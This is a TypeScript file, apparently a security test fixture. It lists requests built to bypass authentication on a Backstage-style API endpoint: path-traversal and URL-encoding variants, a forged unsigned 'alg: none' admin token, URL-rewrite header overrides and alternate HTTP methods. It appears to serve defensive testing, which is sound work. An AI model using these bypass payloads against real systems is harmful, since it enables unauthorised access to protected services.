import type { WireRequest } from './wire.ts';

const LIST = '/api/things/things';

const PATHS = [
  LIST,
  `${LIST}/`,
  `${LIST}%2f`,
  `${LIST}%20`,
  `${LIST}%00`,
  `${LIST}/.`,
  `${LIST}/%2e`,
  `${LIST};/health`,
  `${LIST}?/health`,
  `${LIST}#/health`,
  `${LIST}?path=/health`,
  '/API/THINGS/THINGS',
  '//api//things//things',
  '/api//things/things',
  '/api/things//things',
  '/api/./things/./things',
  '/api/%74hings/things',
  '/api/things/%74hings',
  '/api/things/openapi.json',
  '/api/things/health/openapi.json',
  '/api/things/health/things',
  '/api/things/health/../things',
  '/api/things/HEALTH/../things',
  '/api/things/health/..%2fthings',
  '/api/things/health%2f..%2fthings',
  '/api/things/health/%2e%2e/things',
  '/api/things/health/.%2e/things',
  '/api/things/health/..;/things',
  '/api/things/health;/../things',
  '/api/things/health\\..\\things',
  '/api/things/health%5c..%5cthings',
  '/api/things/health%00/../things',
  '/api/things/health%23/../things',
  '/api/things/health?/../things',
  '/api/auth/../things/things',
  '/api/auth/..%2fthings/things',
  '/.backstage/health/v1/../../../api/things/things',
  '/.backstage/health/v1/readiness/..%2f..%2f..%2f..%2fapi/things/things',
  `http://localhost${LIST}`,
];

const base64 = (value: object) =>
  Buffer.from(JSON.stringify(value)).toString('base64url');

// Signed by nobody.
const FORGED = `${base64({ alg: 'none', typ: 'vnd.backstage.user' })}.${base64({
  sub: 'user:default/admin',
  ent: ['user:default/admin'],
  aud: 'backstage',
  iat: 1_700_000_000,
  exp: 4_000_000_000,
})}.`;

const HEADERS: Record<string, string>[] = [
  { Authorization: '' },
  { Authorization: 'Bearer' },
  { Authorization: 'Bearer ' },
  { Authorization: 'Bearer null' },
  { Authorization: `Bearer ${FORGED}` },
  { Authorization: `bearer ${FORGED}x` },
  { Authorization: 'Basic dXNlcjpwYXNz' },
  { Cookie: `backstage-auth-token=${FORGED}` },
  { 'X-Original-URL': '/api/things/health' },
  { 'X-Rewrite-URL': '/api/things/health' },
  { 'X-Forwarded-Prefix': '/api/things/health' },
  { 'X-HTTP-Method-Override': 'OPTIONS' },
];

/**
 * Ways around the need for credentials, by the path, by headers and by the method.
 * None of the requests has any that are valid.
 */
export const authPaths: WireRequest[] = [
  ...PATHS.map(path => ({ path })),
  ...HEADERS.map(headers => ({ path: LIST, headers })),
  ...['HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'QUERY'].map(method => ({
    method,
    path: LIST,
  })),
];
